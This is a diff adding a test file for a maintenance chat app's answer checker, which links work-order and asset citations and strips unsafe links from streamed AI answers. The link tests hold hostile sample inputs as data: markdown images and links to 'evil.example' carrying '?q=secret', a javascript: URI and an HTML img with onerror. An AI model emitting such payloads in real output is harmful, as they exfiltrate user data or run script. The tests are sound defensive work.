@@ -1,0 +1,154 @@
+import type { ChatSource } from '@chatterfix/sdk/contract';
+import { describe, expect, it } from 'vitest';
+import { AnswerChecker } from './answer-checker.ts';
+import { Evidence } from './evidence.ts';
+
+const pump: ChatSource = {
+  kind: 'asset',
+  id: '3',
+  title: 'P-101A · Feed pump',
+  quote: 'See https://vendor.example/p101.pdf for its drawing',
+  href: '/api/assets/3',
+};
+const seal = {
+  cite: '[WO-17]',
+  id: 17,
+  title: 'Seal leaks',
+  asset_tag: 'P-101A',
+  notes: 'part SEAL-40, like WO 12',
+};
+
+function evidence(): Evidence {
+  const known = new Evidence('What about M-9 and order 55?\nmaintenance');
+  known.addSource(pump);
+  known.addResult(JSON.stringify({ work_orders: { rows: [seal] } }));
+  return known;
+}
+
+/** What is shown of an answer that arrives in these pieces, and its citations as `text: id` or `text?`. */
+function check(pieces: readonly string[]): { text: string; cited: string[] } {
+  const checker = new AnswerChecker(evidence());
+  const text = pieces.map((piece) => checker.write(piece)).join('') + checker.end();
+  const cited = checker
+    .citations(text)
+    .map(({ text, id, kind, checked }) => (checked ? `${text}: ${id ?? kind}` : `${text}?`));
+  return { text, cited };
+}
+/** The same in one piece, and sign by sign, which must come to the same. */
+function checked(answer: string) {
+  const whole = check([answer]);
+  expect(check([...answer])).toEqual(whole);
+  return whole;
+}
+
+describe('an answer that names records', () => {
+  it.each([
+    ['It leaks [WO-17].', 'It leaks [WO-17](/api/work-orders/17).', ['WO-17: 17']],
+    [
+      'Both [WO-17, ASSET-3]',
+      'Both [WO-17](/api/work-orders/17), [ASSET-3](/api/assets/3)',
+      ['WO-17: 17', 'ASSET-3: 3'],
+    ],
+    ['[WO-17]: leaks', '[WO-17](/api/work-orders/17): leaks', ['WO-17: 17']],
+    ['It leaks [WO-99].', 'It leaks \\[WO-99].', ['[WO-99]?', 'WO-99?']],
+    ['[Part 9](/api/parts/9) is out', 'Part 9 is out', ['Part 9?']],
+    ['[the pump](/api/assets/3) runs', '[the pump](/api/assets/3) runs', ['the pump: 3']],
+    [
+      'Work order 17, and orders no. 12 too',
+      'Work order 17, and orders no. 12 too',
+      ['Work order 17: 17', 'orders no. 12: 12'],
+    ],
+    ['Work orders 17 and 18', 'Work orders 17 and 18', ['Work orders 17 and 18?']],
+    [
+      'Der Auftrag Nr. 17, Arbeitsauftrag 4',
+      'Der Auftrag Nr. 17, Arbeitsauftrag 4',
+      ['Auftrag Nr. 17: 17', 'Arbeitsauftrag 4?'],
+    ],
+    [
+      'La orden de trabajo 17, l’ordre de travail n° 8',
+      'La orden de trabajo 17, l’ordre de travail n° 8',
+      ['orden de trabajo 17: 17', 'ordre de travail n° 8?'],
+    ],
+    [
+      'أمر العمل رقم 17 و أمر العمل 4',
+      'أمر العمل رقم 17 و أمر العمل 4',
+      ['أمر العمل رقم 17: 17', 'أمر العمل 4?'],
+    ],
+    [
+      'P-101A needs SEAL-40, not P-205',
+      'P-101A needs SEAL-40, not P-205',
+      ['P-101A: 3', 'SEAL-40: number', 'P-205?'],
+    ],
+    ['M-9 was asked for, order 55 as well', 'M-9 was asked for, order 55 as well', ['M-9: number']],
+    [
+      'ISO-14224, IP-65 and R-410A are no tags; WO 55 is asked for',
+      'ISO-14224, IP-65 and R-410A are no tags; WO 55 is asked for',
+      ['WO 55: 55'],
+    ],
+    ['Order 5 seals, 2-3 days, A-weighted', 'Order 5 seals, 2-3 days, A-weighted', []],
+  ])('%s', (answer, text, cited) => {
+    expect(checked(answer)).toEqual({ text, cited });
+  });
+});
+
+describe('an answer with links', () => {
+  it.each([
+    [
+      'keeps an address of a record',
+      'See https://vendor.example/p101.pdf.',
+      'See https://vendor.example/p101.pdf.',
+    ],
+    [
+      'keeps a link to it',
+      '[drawing](https://vendor.example/p101.pdf "x")',
+      '[drawing](https://vendor.example/p101.pdf)',
+    ],
+    ['removes an image', 'Look ![chart](https://evil.example/?q=secret) here', 'Look chart here'],
+    ['removes an image without a text', '![](https://evil.example/?q=secret)', '(image removed)'],
+    ['removes an image of an address of a record', '![x](https://vendor.example/p101.pdf)', 'x'],
+    ['removes an image of a mark', '![WO-17]', '[WO-17](/api/work-orders/17)'],
+    ['removes a link', 'Ask [here](https://evil.example/?q=secret).', 'Ask here.'],
+    ['removes a longer address', 'https://vendor.example/p101.pdf?q=secret', '(link removed)'],
+    ['removes a record’s address with a query', '[x](/api/assets/3?q=secret)', 'x'],
+    ['removes another address of the API', '[x](/api/keys)', 'x'],
+    ['removes a script', '[x](javascript:alert(1)) y', 'x y'],
+    ['removes an address in pointed brackets', 'a <https://evil.example> b', 'a (link removed) b'],
+    ['removes HTML', 'a <img src="//evil.example/x" onerror=y> b<br>c <a href=/x>d</a>', 'a  b<br>c d</a>'],
+    ['removes a link around an image', '[![a](https://evil.example/1)](https://evil.example/2)', 'a'],
+    ['removes a reference', '[x][y]\n\n[y]: https://evil.example', '[x][y]\n\n\\[y]: (link removed)'],
+    ['removes an address in code', '`https://evil.example/a`', '`(link removed)`'],
+    [
+      'removes an address without a scheme',
+      'www.evil.example/a and //evil.example/b',
+      '(link removed) and (link removed)',
+    ],
+    [
+      'removes addresses of other schemes',
+      'MAILTO:a@b.example ftp://x.example',
+      '(link removed) (link removed)',
+    ],
+    [
+      'does not let signs be written as entities',
+      'https&#58;//evil.example https&colon;//a',
+      'https&amp;#58;(link removed) https&amp;colon;(link removed)',
+    ],
+    ['shows a bracket that is not closed', '[x](https://evil.example', '\\[x]((link removed)'],
+    [
+      'leaves other text alone',
+      'if x < 3 & y: 1/2, [ ] todo, [0, 5) w/o `a[i]` \\[b\\] how http works',
+      'if x < 3 & y: 1/2, [ ] todo, \\[0, 5) w/o `a[i]` \\[b\\] how http works',
+    ],
+  ])('%s', (_, answer, text) => {
+    expect(checked(answer).text).toBe(text);
+  });
+
+  it('holds back no more than the beginning of a link', () => {
+    const checker = new AnswerChecker(evidence());
+    expect(
+      ['The ', 'pump ', 'leaks', ': w', 'hy', ' [W', 'O-17', ']', '.'].map((piece) => checker.write(piece)),
+    ).toEqual(['The ', 'pump ', 'leaks', ': ', 'why', ' ', '', '', '[WO-17](/api/work-orders/17).']);
+    expect(checker.write(`[${'x'.repeat(600)}`)).toBe(`\\[${'x'.repeat(600)}`);
+    const long = checker.write(` https://evil.example/${'x'.repeat(3_000)}`) + checker.write('yyy z');
+    expect(long).toBe(' (link removed) z');
+  });
+});
